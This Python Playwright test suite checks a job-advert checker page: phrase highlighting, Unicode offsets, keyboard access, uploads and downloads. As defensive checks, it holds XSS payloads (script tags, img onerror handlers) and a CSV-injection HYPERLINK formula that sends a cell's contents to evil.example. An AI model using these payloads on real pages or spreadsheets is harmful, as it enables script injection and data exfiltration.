"""The job-advert checker in a real Chromium, through the worker: a pasted advert marked in place
(labels in text, marks that are exactly the matched words even after emoji and right-to-left
text, no false degree gates), the findings list by keyboard, a typed <script> and pasted HTML
that never run, an uploaded file, the two downloads made formula-safe, an empty advert, and
nothing typed, pasted or uploaded leaving the browser.

What the page should show is worked out by running the same calculator on CPython (the offsets
are Python code points), then compared with what the browser drew (JavaScript strings count
UTF-16 units, so every emoji before a finding would shift a wrong conversion by one)."""
from __future__ import annotations

import csv
import io
import re

import pytest

from calculators.job_advert.spec import SPEC
from calculators.job_advert.rules import rule_book
from calculators.core.content import load_content
from calculators.shared.csv_safe import FORMULA_START
from calculators.core.spec import run
from browserkit import calculate as calculate_on, wait_ready

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ID = "job-advert-checker"
PAGE = f"calculators/{ID}/"
ROOT = f"#tk-{ID}"
TEXT = f"#tk-{ID}-text"
FILE = f"#tk-{ID}-file"
SENTINEL = "QUILLFEATHER7"


def severity_label(severity: str) -> str:
    return next(s["label"] for s in load_content()["advert_rules"]["severities"] if s["id"] == severity)


def rule_label(rule_id: str) -> str:
    return next(r["label"] for r in load_content()["advert_rules"]["rules"] if r["id"] == rule_id)


def in_text_label(rule_id: str) -> str:
    """The label the page puts before a finding, from the rules as shipped (maintainers may reword them)."""
    severity = next(r["severity"] for r in load_content()["advert_rules"]["rules"] if r["id"] == rule_id)
    return f"[{severity_label(severity)}: {rule_label(rule_id)}]"

# A realistic advert: a degree gate, a 2:1, "competitive salary", an unpaid internship,
# class-coded phrases, a driving licence; the degree traps; emoji (some outside the Basic
# Multilingual Plane, so two UTF-16 units each) before findings; Arabic and Hebrew on the line of
# the last finding; and a sentinel word that must never be sent anywhere.
ADVERT = """\U0001F680\u2728 Graduate Marketing Assistant \u2014 Harbour & Lane Ltd \U0001F30D

We are a polished, fast-growing agency in Leeds. \U0001F44B We want a well-spoken team player.
You will enjoy a high degree of autonomy and take part in 360-degree feedback from day one.
Our first-aid training covers third-degree burns.

Essential criteria:
- A degree in marketing or a related subject
- A 2:1 or above
- Excellent written English

\U0001F4B7 Salary: competitive salary.

Before you start, you will complete a three-month unpaid internship with us.
Hours: Monday to Friday, 9am to 5pm. Office-based in Leeds.

No degree required for our warehouse roles, and you don't need a degree for our apprenticeships.
\u0646\u0631\u062d\u0628 \u0628\u0627\u0644\u0645\u062a\u0642\u062f\u0645\u064a\u0646 \U0001F91D \u05d1\u05e8\u05d5\u05db\u05d9\u05dd \u05d4\u05d1\u05d0\u05d9\u05dd \u2014 you must hold a full driving licence.
Quote """ + SENTINEL + """ when you apply.
"""
TRAPS = ("degree of autonomy", "360-degree", "third-degree", "No degree required", "don't need a degree")


# scripts on the page other than the theme's own, which the page adds once Python has started
SCRIPTS = """document.querySelectorAll("script:not([src*='assets/javascripts/bundle.'])").length"""


def expected(text: str = "", file: str = "") -> dict:
    """The calculator's result on CPython for the same input."""
    outcome = run(SPEC, {"text": text, "file": file}, load_content())
    assert outcome["ok"], outcome
    return outcome["result"]


def open_checker(page, server):
    page.goto(server.url + PAGE)
    wait_ready(page)


def calculate(page) -> str:
    return calculate_on(page, ROOT)


def copy(page, plain: str, html: str | None = None) -> None:
    """Put text (and HTML) on the system clipboard, as copying from another program would."""
    origin = page.url.split("/toolkit/")[0]
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=origin)
    page.evaluate("""async ([plain, html]) => {
        const item = { "text/plain": new Blob([plain], { type: "text/plain" }) };
        if (html !== null) item["text/html"] = new Blob([html], { type: "text/html" });
        await navigator.clipboard.write([new ClipboardItem(item)]);
    }""", [plain, html])


def paste(page, selector: str, plain: str) -> None:
    """A real paste (Ctrl+V) of plain text from the system clipboard into a field."""
    copy(page, plain)
    page.focus(selector)
    page.keyboard.press("Control+V")


def marked(page) -> dict:
    """The marked advert as drawn: its text without the labels, and each child <mark> with its
    label, its own text and where it starts and ends in code points (as Python counts)."""
    return page.evaluate("""() => {
        const box = document.querySelector('.tk-highlighted');
        let at = 0, plain = '';
        const marks = [], stray = [];
        for (const node of box.childNodes) {
            if (node.nodeType === Node.TEXT_NODE) { plain += node.data; at += Array.from(node.data).length; continue; }
            if (node.tagName !== 'MARK') { stray.push(node.tagName); continue; }
            const label = node.querySelector(':scope > .tk-mark__label');
            const text = [...node.childNodes].filter((n) => n !== label).map((n) => n.textContent).join('');
            const length = Array.from(text).length;
            marks.push({ id: node.id, label: label ? label.textContent : null, text, start: at, end: at + length,
                         labelShown: !!label && label.getClientRects().length > 0 && label.getBoundingClientRect().width > 4
                                     && getComputedStyle(label).visibility === 'visible' && !label.closest('[aria-hidden=true]') });
            plain += text;
            at += length;
        }
        return { plain, marks, stray };
    }""")


def assert_marks_match(page, result: dict) -> list[dict]:
    """Every span the calculator returned is drawn as one <mark>: same place, the exact words,
    and a visible text label saying what it is."""
    drawn = marked(page)
    text = result["highlights"]["text"]
    spans = result["highlights"]["spans"]
    assert drawn["stray"] == []
    assert drawn["plain"] == text, "the marked advert is not the advert"
    assert len(drawn["marks"]) == len(spans) > 0
    for mark, span in zip(drawn["marks"], spans):
        assert mark["id"] == f"tk-{ID}-{span['id']}"
        assert (mark["start"], mark["end"]) == (span["start"], span["end"]), span
        assert mark["text"] == text[span["start"]:span["end"]]
        assert mark["label"] == f"[{span['label']}] " and mark["labelShown"], mark
        assert re.match(r"\[(Barrier|Check this|Note): ", mark["label"])
    return drawn["marks"]


def utf16_shift(text: str, offset: int) -> int:
    """How many more UTF-16 units than code points come before offset."""
    return len(text[:offset].encode("utf-16-le")) // 2 - offset


def test_pasted_advert_is_marked_in_place_with_labels_and_no_false_degree_gates(browse):
    page, rec, server = browse
    open_checker(page, server)
    paste(page, TEXT, ADVERT)
    assert page.input_value(TEXT) == ADVERT
    assert calculate(page) == "result"
    result = expected(ADVERT)
    marks = assert_marks_match(page, result)

    # The conversion from code points is really exercised: findings come after astral emoji.
    shifts = {m["text"]: utf16_shift(ADVERT, m["start"]) for m in marks}
    assert shifts["Graduate"] == 1 and shifts["driving licence"] == 5, shifts

    by_text = {m["text"]: m["label"] for m in marks}
    assert by_text["degree"] == in_text_label("degree-required") + " "
    assert by_text["2:1 or above"].startswith(in_text_label("degree-classification")[:-1])  # a context may add words
    assert "unpaid internship" in by_text and by_text["unpaid internship"].startswith(f"[{severity_label('barrier')}: ")
    assert any("competitive" in t and rule_label("vague-pay") in label for t, label in by_text.items())
    assert by_text["polished"] == by_text["well-spoken"] == in_text_label("class-coded") + " "
    assert by_text["driving licence"].startswith(f"[{severity_label('caution')}: ")

    # The traps are not marked as degree gates.
    book = rule_book(load_content())
    degree_labels = {rule.label for rule in book.rules if rule.category == "degree"}
    degree_marks = [m for m in marks if any(m["label"].endswith(f": {label}] ") for label in degree_labels)]
    assert [m["text"] for m in degree_marks] == ["Graduate", "degree"]
    for trap in TRAPS:
        start = ADVERT.index(trap)
        end = start + len(trap)
        assert not [m for m in degree_marks if m["start"] < end and start < m["end"]], trap

    # The findings list under the advert gives each mark's line and column (code points from 1).
    links = page.locator(f"{ROOT} .tk-findings a").all_inner_texts()
    assert len(links) == len(result["highlights"]["spans"])
    for link, span in zip(links, result["highlights"]["spans"]):
        assert link.startswith(f"Line {span['line']}, column {span['column']}: {span['label']}. "), link
    # By hand: the last line is 4 + 1 + 10 + 1 Arabic letters and spaces, the emoji, a space, 6 + 1 + 5
    # Hebrew letters and a space, then " — you must hold a full " (22): "driving" is the 55th character.
    assert links[-1].startswith("Line 18, column 55: ")

    summary = page.locator(f"{ROOT} .tk-summary").inner_text()
    assert "barriers likely to put off" in summary and "Unpaid work" in summary
    rec.assert_private("http://127.0.0.1:", sentinels=(SENTINEL, "Harbour & Lane", "Harbour%20%26%20Lane"))
    assert not rec.errors


def test_findings_list_by_keyboard_moves_focus_to_the_mark(browse):
    page, rec, server = browse
    open_checker(page, server)
    page.fill(TEXT, ADVERT)
    assert calculate(page) == "result"
    spans = expected(ADVERT)["highlights"]["spans"]
    target = next(s for s in spans if ADVERT[s["start"]:s["end"]] == "2:1 or above")
    assert page.evaluate("document.activeElement.matches('[data-tk-results]')")  # focus went to the results

    def active() -> dict:
        return page.evaluate("""() => { const a = document.activeElement;
            return { tag: a.tagName, id: a.id, href: a.getAttribute('href'), inFindings: !!a.closest('.tk-findings'),
                     region: a.classList.contains('tk-highlighted') }; }""")

    path = []
    for _ in range(80):  # Tab forward to the findings list
        page.keyboard.press("Tab")
        path.append(active())
        if path[-1]["inFindings"]:
            break
    assert path[-1]["inFindings"], path
    assert path[-1]["href"] == f"#tk-{ID}-{spans[0]['id']}"  # the list starts with the first finding
    assert any(step["region"] for step in path), "the marked advert cannot be reached (and scrolled) by keyboard"
    for _ in range(len(spans)):
        if active()["href"] == f"#tk-{ID}-{target['id']}":
            break
        page.keyboard.press("Tab")
    assert active()["href"] == f"#tk-{ID}-{target['id']}"
    page.keyboard.press("Enter")
    page.wait_for_function("id => document.activeElement.id === id", arg=f"tk-{ID}-{target['id']}", timeout=5000)
    focused = page.evaluate("""() => { const a = document.activeElement, r = a.getBoundingClientRect();
        return { tag: a.tagName, text: a.textContent, inView: r.top >= 0 && r.bottom <= window.innerHeight }; }""")
    assert focused == {"tag": "MARK", "text": f"[{target['label']}] 2:1 or above", "inView": True}
    assert page.locator(f"#tk-{ID}-{target['id']}").evaluate("el => el.closest('.tk-highlighted') !== null")
    # and on again from the mark, Shift+Tab returns into the page's order without getting stuck
    page.keyboard.press("Shift+Tab")
    assert page.evaluate("document.activeElement.tagName") != "BODY"


def test_typed_script_is_shown_as_text_and_pasted_html_is_reduced_to_text(browse):
    page, rec, server = browse
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    open_checker(page, server)
    scripts_before = page.evaluate(SCRIPTS)

    # 1. A <script> typed into an advert is text: shown exactly as typed, never run.
    page.fill(TEXT, "Office junior in Hull \U0001F600 ")
    page.focus(TEXT)
    page.keyboard.press("End")
    page.keyboard.type("<script>window.__pwned = 1; alert(1)</script>")
    page.keyboard.type(" A degree is essential. Pay: \u00a321,000 a year, 9am to 5pm, in our office.")
    typed = page.input_value(TEXT)
    assert "<script>window.__pwned = 1; alert(1)</script>" in typed
    assert calculate(page) == "result"
    result = expected(typed)
    assert result["highlights"]["text"] == typed  # not treated as HTML
    assert_marks_match(page, result)
    assert "<script>window.__pwned = 1; alert(1)</script>" in page.locator(".tk-highlighted").inner_text()
    assert page.locator(f"{ROOT} [data-tk-results] script").count() == 0
    assert page.evaluate(SCRIPTS) == scripts_before
    assert page.evaluate("window.__pwned") is None
    assert not page.locator(f"{ROOT} .tk-notices").count() or "HTML" not in page.locator(f"{ROOT} .tk-notices").inner_text()

    # 2. HTML pasted as source (copied from a CMS or a page's source) becomes plain text.
    html = ('<h2>Dental receptionist</h2><p>A <strong>degree</strong> is essential. ' + SENTINEL + '</p>'
            '<ul><li>Salary: competitive</li><li>Mornings, in Harrogate</li></ul>'
            '<script>window.__pwned = 2; alert(2)</script><img src="x.png" onerror="window.__pwned = 3; alert(3)">')
    page.fill(TEXT, "")
    paste(page, TEXT, html)
    assert page.input_value(TEXT) == html
    assert calculate(page) == "result"
    result = expected(html)
    assert "<" not in result["highlights"]["text"] and "A degree is essential." in result["highlights"]["text"]
    assert_marks_match(page, result)
    shown = page.locator(".tk-highlighted").inner_text()
    assert "<" not in shown and "alert" not in shown and f"Dental receptionist\n\nA {in_text_label('degree-required')} degree" in shown
    notes = page.locator(f"{ROOT} .tk-notices").inner_text()
    assert "looked like HTML" in notes and "removed 1 script or style block without running it" in notes
    assert page.locator(f"{ROOT} [data-tk-results] :is(script, img)").count() == 0
    assert page.locator(f"{ROOT} .tk-highlighted :is(strong, h2, ul, li, p)").count() == 0

    # 3. A rich paste (text/html on the clipboard) puts only the plain text into the box.
    page.fill(TEXT, "")
    seen = len(rec.violations)
    copy(page, "Warehouse operative. No degree required.",
         '<p onclick="alert(4)">Warehouse operative.<img src="y.png" onerror="window.__pwned = 4; alert(4)"> '
         '<b>No degree required.</b></p><script>alert(5)</script>')
    page.wait_for_timeout(200)
    # Chromium cleans the HTML it puts on the clipboard by parsing it in this page, and the page's
    # CSP blocks the two event handlers there: the test's doing, not the site's, so set aside.
    copied = rec.violations[seen:]
    assert all("script-src-attr" in v for v in copied), copied
    del rec.violations[seen:]
    page.focus(TEXT)
    page.keyboard.press("Control+V")
    assert page.input_value(TEXT) == "Warehouse operative. No degree required."
    assert calculate(page) == "result"
    assert page.locator(".tk-highlighted mark", has_text="degree").count() == 0

    page.wait_for_timeout(300)  # give anything that could run the time to run
    assert dialogs == [] and page.evaluate("window.__pwned") is None
    assert page.evaluate(SCRIPTS) == scripts_before
    rec.assert_private("http://127.0.0.1:", sentinels=(SENTINEL,))
    assert not any(r.url.endswith(("x.png", "y.png")) for r in rec.requests)
    assert not rec.errors


def test_uploaded_text_file_is_checked(browse, tmp_path):
    page, rec, server = browse
    open_checker(page, server)
    assert page.get_attribute(FILE, "accept") == ".txt,.md"
    # Windows line ends, an emoji and a sentinel: the file is read as it is.
    body = ("Kitchen porter \u2013 The Mill, Hebden Bridge \U0001F37D\r\n\r\nYou must have a degree and a full driving "
            "licence.\r\nPay: competitive. Reference " + SENTINEL + "F.\r\nShifts of 8 hours, in person.\r\n")
    path = tmp_path / "kitchen-porter.txt"
    path.write_bytes(body.encode("utf-8"))
    page.set_input_files(FILE, str(path))
    assert page.input_value(TEXT) == ""
    assert calculate(page) == "result"
    result = expected(file=body)
    marks = assert_marks_match(page, result)
    assert {"degree", "driving licence"} <= {m["text"] for m in marks}
    first = page.locator(f"{ROOT} .tk-findings a").first.inner_text()
    span = result["highlights"]["spans"][0]
    assert first.startswith(f"Line {span['line']}, column {span['column']}: ") and span["line"] == 3

    # A file saved in Windows-1252 is read, with a notice to check the accents.
    legacy = tmp_path / "legacy.txt"
    legacy.write_bytes("Caf\u00e9 assistant. A degree is essential. \u00a310.50 an hour, 20 hours a week, in person.\n".encode("cp1252"))
    page.set_input_files(FILE, str(legacy))
    assert calculate(page) == "result"
    assert "Caf\u00e9 assistant." in page.locator(".tk-highlighted").inner_text()
    assert "legacy.txt is not UTF-8 text" in page.locator(f"{ROOT} .tk-notices").inner_text()
    rec.assert_private("http://127.0.0.1:", sentinels=(SENTINEL + "F",))
    assert not rec.errors


def test_markdown_and_csv_reports_download_and_are_formula_safe(browse):
    page, rec, server = browse
    open_checker(page, server)
    # Long sentences are listed with their words, so these cells start with = and +.
    advert = ("Graduate analyst, Leeds. A degree is essential.\n\n"
              '=HYPERLINK("http://evil.example/?q=" & A1, "Click") you will work with ' + "many busy people " * 12 + "every day.\n"
              "+44 is our dialling code and " + "we like to talk " * 9 + "a lot.\n"
              "@team: " + SENTINEL + " salary competitive, 9am to 5pm, in our office.\n")
    page.fill(TEXT, advert)
    assert calculate(page) == "result"
    want = {d["filename"]: d["text"] for d in expected(advert)["downloads"]}
    got = {}
    for label in ("Download the report (Markdown)", "Download the findings (CSV)"):
        with page.expect_download() as info:
            page.get_by_role("button", name=label).click()
        download = info.value
        got[download.suggested_filename] = open(download.path(), encoding="utf-8", newline="").read()
    assert got == want  # exactly what the calculator wrote, nothing lost or re-encoded

    rows = list(csv.reader(io.StringIO(got["advert-findings.csv"], newline="")))
    assert rows[0][:6] == ["Finding", "Line", "Column", "Category", "Severity", "Found"]
    assert len({len(r) for r in rows}) == 1 and len(rows) > 4
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c.startswith(FORMULA_START)], "a CSV cell could run as a formula"
    assert any(c.startswith("'=HYPERLINK(") for c in cells) and any(c.startswith("'+44 is our") for c in cells)

    markdown = got["advert-check.md"]
    table_cells = [c.strip() for line in markdown.splitlines() if line.startswith("|")
                   for c in re.split(r"(?<!\\)\|", line)[1:-1]]
    assert not [c for c in table_cells if c.startswith(FORMULA_START) and set(c) != {"-"}], "a Markdown cell could run as a formula"
    assert any(c.startswith("'=HYPERLINK(") for c in table_cells)
    assert "<" not in markdown.replace("\\<", "")
    rec.assert_private("http://127.0.0.1:", sentinels=(SENTINEL,))
    assert not rec.errors


def test_empty_advert_gives_the_error_summary_and_keeps_the_inputs(browse):
    page, rec, server = browse
    open_checker(page, server)
    page.fill(TEXT, ADVERT)
    assert calculate(page) == "result"
    blank = "   \n\t\n  "
    page.fill(TEXT, blank)
    assert calculate(page) == "errors"
    summary = page.locator(f"{ROOT} [data-tk-error-summary]")
    assert summary.is_visible() and summary.evaluate("el => el === document.activeElement")
    link = summary.get_by_role("link")
    assert link.count() == 1 and "Paste the text of your job advert" in link.inner_text()
    assert page.locator(f"{ROOT} [data-tk-results]").is_hidden()  # the old marks are not this advert's
    assert page.input_value(TEXT) == blank
    assert page.get_attribute(TEXT, "aria-invalid") == "true"
    link.click()
    assert page.evaluate("document.activeElement.id") == f"tk-{ID}-text"
    page.fill(TEXT, ADVERT)  # and it works again
    assert calculate(page) == "result"
    assert page.locator(f"{ROOT} [data-tk-error-summary]").is_hidden()
    rec.assert_private("http://127.0.0.1:", sentinels=(SENTINEL,))


def test_hidden_characters_and_look_alike_letters_are_marked_in_the_text_as_pasted(browse):
    """A zero-width space inside "degree" and "2:1", a Cyrillic е, after an astral emoji: found,
    and each mark covers exactly the pasted characters, hidden ones included (issue 22)."""
    page, rec, server = browse
    advert = ("\U0001F680 Analyst\n\nEssential criteria:\n- A de\u200bgree in economics\n- A 2\u200b:1 or above\n"
              "- Native English sp\u0435aker\n\nSalary \u00a325,000 a year. Based in Leeds. Full-time, 37 hours a week.\n")
    open_checker(page, server)
    paste(page, TEXT, advert)
    assert calculate(page) == "result"
    marks = assert_marks_match(page, expected(advert))
    texts = [m["text"] for m in marks]
    assert "de\u200bgree" in texts and any(t.startswith("2\u200b:1") for t in texts)
    assert any("sp\u0435aker" in t for t in texts)
    assert not rec.errors
